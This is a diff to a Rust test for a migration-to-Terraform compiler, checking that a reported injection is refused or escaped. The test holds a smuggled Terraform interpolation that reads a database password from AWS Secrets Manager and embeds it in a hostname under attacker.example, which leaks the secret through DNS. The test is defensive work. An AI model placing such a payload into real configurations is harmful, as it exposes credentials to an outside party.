@@ -121,21 +121,27 @@ fn no_string_of_a_stack_becomes_an_interpolation() {
 /// name is exactly the text typed, `${` included.
 #[test]
 fn the_reported_exploit_is_text() {
+    let payload = "${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}";
+    // As the legacy host it is not a DNS name: refused before anything is built (PMG1206).
     let text = include_str!("../stacks/payment.pmig").replace(
         "legacy   = \"legacy.pay.example.com\"",
-        "legacy   = \"${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}.x.attacker.example\"",
+        &format!("legacy   = \"{payload}.x.attacker.example\""),
+    );
+    let checked = pmigc::check_source(&text);
+    let codes: Vec<&str> = checked
+        .diagnostics
+        .iter()
+        .map(|d| d.code.as_str())
+        .collect();
+    assert_eq!(codes, ["PMG1206"]);
+    // In a slot that takes any text (the DMS source user), it reaches Terraform as text.
+    let text = include_str!("../stacks/payment.pmig").replace(
+        "username = \"dms_reader\"",
+        &format!("username = \"{payload}\""),
     );
     let roots = common::compile(&text);
-    // Only the workspace that owns the cutover manages its records.
-    let (_, root) = roots
-        .iter()
-        .find(|(ws, _)| ws == "aws-production")
-        .expect("workspace");
-    {
-        let records = &root["resource"]["aws_route53_record"]["payments_legacy"]["records"];
-        assert_eq!(
-            records[0],
-            "$${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}.x.attacker.example"
-        );
+    for (_, root) in roots {
+        let username = &root["resource"]["aws_dms_endpoint"]["onprem_to_aws_source"]["username"];
+        assert_eq!(username, &format!("${payload}"));
     }
 }
